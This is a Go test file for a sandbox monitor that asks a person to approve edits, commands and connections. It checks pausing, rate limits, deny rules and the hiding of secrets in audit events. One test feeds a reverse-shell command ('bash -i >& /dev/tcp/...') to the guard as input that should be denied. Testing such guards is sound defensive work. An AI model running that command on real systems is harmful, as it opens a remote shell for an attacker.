package box

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"

	"github.com/paddock-sandbox/paddock"
	"github.com/paddock-sandbox/paddock/internal/audit"
	"github.com/paddock-sandbox/paddock/internal/egress/gatewayclient"
	"github.com/paddock-sandbox/paddock/internal/step"
)

// judgements keeps events.
type judgements struct {
	mu   sync.Mutex
	list []audit.Event // guarded by mu
}

func (h *judgements) Record(e audit.Event) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.list = append(h.list, e)
}

func (h *judgements) count(which func(*audit.Judgement) bool) (n int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, e := range h.list {
		if e.Judgement != nil && which(e.Judgement) {
			n++
		}
	}
	return n
}

// guarding returns a guard of a sandbox that is not there, and what it told: why it paused the sandbox, and its events.
func guarding(t *testing.T, m paddock.Monitor, secrets ...paddock.Secret) (g *guard, halts chan string, events *judgements) {
	t.Helper()
	events, halts = &judgements{}, make(chan string, 10)
	g = newGuard("box", paddock.Jail, &monitored{Settings: m, Network: true}, secrets, events)
	g.halt = func(_ context.Context, why string) error {
		halts <- why
		return nil
	}
	g.end = func(why string) { t.Error("it was ended: ", why) }
	t.Cleanup(g.close)
	return g, halts, events
}

// edits is a change that is asked about.
func edits(path string) step.Watched { return step.Watched{Verb: step.Edited, Path: step.Text(path)} }

const flow = ".github/workflows/a.yml"

// asked waits until n questions wait.
func asked(t *testing.T, g *guard, n int) []paddock.MonitorQuestion {
	t.Helper()
	for {
		list, more := g.waiting()
		if len(list) >= n {
			return list
		}
		select {
		case <-more:
		case <-t.Context().Done():
			t.Fatal("it asks nothing")
		}
	}
}

func TestAnAnswerIsForItsQuestion(t *testing.T) {
	g, halts, events := guarding(t, paddock.Monitor{})
	g.begin(runStep, []string{"sh"})
	type outcome struct {
		of  string
		err error
	}
	done := make(chan outcome)
	for _, path := range []string{"one", "two"} {
		go func() {
			done <- outcome{path, g.watcher().Change(edits(".github/workflows/" + path))}
		}()
	}
	for _, q := range asked(t, g, 2) {
		if err := g.reply(q.ID, strings.Contains(q.About, "two")); err != nil {
			t.Fatal(err)
		}
	}
	for range 2 {
		if o := <-done; (o.err == nil) != (o.of == "two") {
			t.Errorf("%s: %v", o.of, o.err)
		}
	}
	for _, word := range []string{"allow", "deny"} {
		if n := events.count(func(j *audit.Judgement) bool { return j.Answered == word }); n != 1 {
			t.Errorf("%d answers %s are recorded", n, word)
		}
	}
	// What a person allowed by a rule is not asked again in the step, and what was denied stays denied.
	if err := g.watcher().Change(edits(".github/workflows/three")); err != nil {
		t.Errorf("another path by the same rule: %v", err)
	}
	if err := g.watcher().Change(edits(".github/workflows/one")); err == nil {
		t.Error("what was denied is allowed to who tries again")
	}
	if len(halts) > 0 {
		t.Errorf("it was paused: %s", <-halts)
	}
}

func TestAFloodOfMomentsAsksNoMoreThanAPersonCanAnswer(t *testing.T) {
	g, _, _ := guarding(t, paddock.Monitor{})
	g.room = maxQuestions + 2
	ctx, cancel := context.WithCancel(t.Context())
	var wg sync.WaitGroup
	ask := func() {
		wg.Go(func() {
			if g.ask(ctx, paddock.MonitorQuestion{}).allow {
				t.Error("nobody allowed it")
			}
		})
	}
	for range maxQuestions {
		ask()
	}
	asked(t, g, maxQuestions)
	if a := g.ask(t.Context(), paddock.MonitorQuestion{}); a.allow || !strings.Contains(a.why, "wait already") {
		t.Errorf("one more gets %+v", a)
	}
	cancel()
	wg.Wait()
	if g.busy() {
		t.Error("what nobody waits for is still asked")
	}
	ctx, cancel = context.WithCancel(t.Context())
	defer cancel()
	for range 2 {
		ask()
	}
	asked(t, g, 2)
	if a := g.ask(t.Context(), paddock.MonitorQuestion{}); a.allow || !strings.Contains(a.why, "in an hour") {
		t.Errorf("one more gets %+v", a)
	}
	cancel()
	wg.Wait()
}

func TestADenialOfWhatIsWorsePausesOnce(t *testing.T) {
	g, halts, _ := guarding(t, paddock.Monitor{})
	g.begin(runStep, []string{"sh"})
	done := make(chan error)
	change := step.Watched{Verb: step.Created, Path: ".husky/pre-commit", Done: true}
	go func() { done <- g.watcher().Change(change) }()
	q := asked(t, g, 1)[0]
	if !q.Pauses || !q.Done {
		t.Errorf("it asks %+v", q)
	}
	other := make(chan gatewayclient.Judgement)
	go func() {
		other <- g.judge().Judge(t.Context(), gatewayclient.Question{Host: "example.com", Port: 443, Rule: true})
	}()
	if err := g.reply(q.ID, false); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Errorf("what has happened already: %v", err)
	}
	if why := <-halts; !strings.Contains(why, "write-hook") {
		t.Errorf("it is paused because %s", why)
	}
	// Whichever came first, nothing goes on from now on, and nothing pauses it again.
	<-other
	if j := g.judge().Judge(t.Context(), gatewayclient.Question{Host: "example.org", Port: 443, Rule: true}); j.Allow || !strings.Contains(j.Reason, "paused") {
		t.Errorf("a connection of a sandbox that is being paused: %+v", j)
	}
	if err := g.watcher().Change(edits("free")); err == nil {
		t.Error("a change of a sandbox that is being paused")
	}
	if len(halts) > 0 {
		t.Error("it is paused twice")
	}
	undo := g.resuming()
	if g.tell().Paused != "" || g.watcher().Change(edits("free")) != nil {
		t.Errorf("after it was resumed: %+v", g.tell())
	}
	undo()
	if g.tell().Paused == "" {
		t.Error("a resumption that failed is none")
	}
}

func TestASandboxThatCannotBePausedIsEnded(t *testing.T) {
	g, _, _ := guarding(t, paddock.Monitor{})
	ended := make(chan string, 1)
	g.halt = func(context.Context, string) error { return paddock.Exhausted }
	g.end = func(why string) { ended <- why }
	g.stop("it is bad")
	if why := <-ended; !strings.Contains(why, "it is bad") || !strings.Contains(why, paddock.Exhausted.Error()) {
		t.Error(why)
	}
}

func TestASilenceDeniesWhatWaits(t *testing.T) {
	g, halts, _ := guarding(t, paddock.Monitor{})
	done := make(chan error)
	go func() { done <- g.watcher().Change(step.Watched{Verb: step.Edited, Path: ".husky/pre-commit"}) }()
	q := asked(t, g, 1)[0]
	g.silence("it is being paused")
	if err := <-done; !errors.Is(err, paddock.Denied) || !strings.Contains(err.Error(), "it is being paused") {
		t.Errorf("what waited: %v", err)
	}
	if err := g.reply(q.ID, true); !errors.Is(err, paddock.NotFound) {
		t.Errorf("an answer afterwards: %v", err)
	}
	if err := g.watcher().Change(edits(flow)); !errors.Is(err, paddock.Denied) {
		t.Errorf("what comes: %v", err)
	}
	g.speak()
	g.leave()
	if err := g.watcher().Change(edits(flow)); !errors.Is(err, paddock.Denied) {
		t.Errorf("what comes when the sandbox is about to be gone: %v", err)
	}
	if len(halts) > 0 {
		t.Error("it was paused by its monitor")
	}
}

func TestAnotherCommandGivesNoNewCount(t *testing.T) {
	g, _, events := guarding(t, paddock.Monitor{Removed: 3})
	long := g.begin(runStep, []string{"rm", "-r", "x"})
	denied := 0
	for i := range 4 {
		over := g.begin(runStep, []string{"true"})
		answers := make(chan error)
		go func() {
			answers <- g.watcher().Change(step.Watched{Verb: step.Removed, Path: step.Text("x/" + string(rune('a'+i))), Old: true})
		}()
		for open := true; open; {
			select {
			case err := <-answers:
				if open = false; err != nil {
					denied++
				}
			default:
				if list, _ := g.waiting(); len(list) > 0 {
					_ = g.reply(list[0].ID, false) // or it is over
				}
			}
		}
		over(nil)
	}
	long(nil)
	if denied == 0 || events.count(func(j *audit.Judgement) bool { return j.Rule == "delete-many" }) == 0 {
		t.Errorf("%d of four removals were refused, while other commands began", denied)
	}
}

func TestWhatAMonitorKnowsOutlivesItsOwner(t *testing.T) {
	g, _, _ := guarding(t, paddock.Monitor{})
	g.begin(runStep, []string{"cat", ".env"})(&paddock.Exit{Cause: paddock.Exited})
	for range 50 {
		g.begin(runStep, []string{"true"})(&paddock.Exit{Cause: paddock.Exited})
	}
	q := gatewayclient.Question{Host: "example.com", Port: 443, Rule: true}
	if j := g.judge().Judge(t.Context(), q); j.Allow || !strings.Contains(j.Reason, "host-after-keys") {
		t.Errorf("after many commands: %+v", j)
	}
	data, err := json.Marshal(g.later(g.about))
	if err != nil {
		t.Fatal(err)
	}
	var how monitored
	if err := json.Unmarshal(data, &how); err != nil {
		t.Fatal(err)
	}
	next := newGuard("box", paddock.Jail, &how, nil, nil)
	t.Cleanup(next.close)
	if j := next.judge().Judge(t.Context(), q); j.Allow || !strings.Contains(j.Reason, "host-after-keys") {
		t.Errorf("after a pause: %+v", j)
	}
	if n := next.tell().Verdicts["deny"]; n != 2 {
		t.Errorf("%d denials are counted", n)
	}
}

func TestSecretsAreHiddenFromEvents(t *testing.T) {
	const value = "hidden-value-of-a-key"
	g, _, events := guarding(t, paddock.Monitor{}, paddock.Secret{Name: "KEY", Value: value})
	if err := g.command(t.Context(), runStep, []string{"sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/1; echo " + value}, false); !errors.Is(err, paddock.Denied) {
		t.Error(err)
	}
	g.hide([]paddock.Secret{{Name: "KEY", Value: "another-value"}})
	if err := g.command(t.Context(), runStep, []string{"sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/1; echo another-value"}, false); !errors.Is(err, paddock.Denied) {
		t.Error(err)
	}
	for _, e := range events.list {
		if text := strings.Join(e.Args, " "); strings.Contains(text, value) || strings.Contains(text, "another-value") {
			t.Errorf("an event has a secret: %q", text)
		}
	}
}

func TestACommandTooLongForAPacketIsAskedAbout(t *testing.T) {
	for name, args := range map[string][]string{
		"long":                   {"sh", "-c", strings.Repeat("x", 200<<10)},
		"long when it is JSON":   {"sh", "-c", strings.Repeat("\x01", 40<<10)},
		"no UTF-8":               {"sh", "-c", strings.Repeat("\xff", 120<<10)},
		"many words":             append([]string{"sh"}, make([]string, maxStepWords)...),
		"words after a long one": {strings.Repeat("y", maxStepText), "z", "z"},
	} {
		t.Run(name, func(t *testing.T) {
			o := stepOrderOf(runStep, args)
			data, err := json.Marshal(request{Op: "step", Step: o})
			if err != nil || len(data) > 150<<10 || !o.Cut {
				t.Fatalf("%d bytes, cut %t, %v", len(data), o.Cut, err)
			}
		})
	}
	if o := stepOrderOf(runStep, []string{"sh", "-c", strings.Repeat("x", 90<<10)}); o.Cut || len(o.Command) != 3 || len(o.Command[2]) != 90<<10 {
		t.Errorf("a command that fits is cut: %t", o.Cut)
	}
	g, _, _ := guarding(t, paddock.Monitor{})
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error)
	go func() { done <- g.command(ctx, runStep, []string{"sh"}, true) }()
	if q := asked(t, g, 1)[0]; q.Rule != "too-long" {
		t.Errorf("it asks %+v", q)
	}
	cancel()
	if err := <-done; !errors.Is(err, paddock.Denied) {
		t.Errorf("nobody waits for it: %v", err)
	}
}
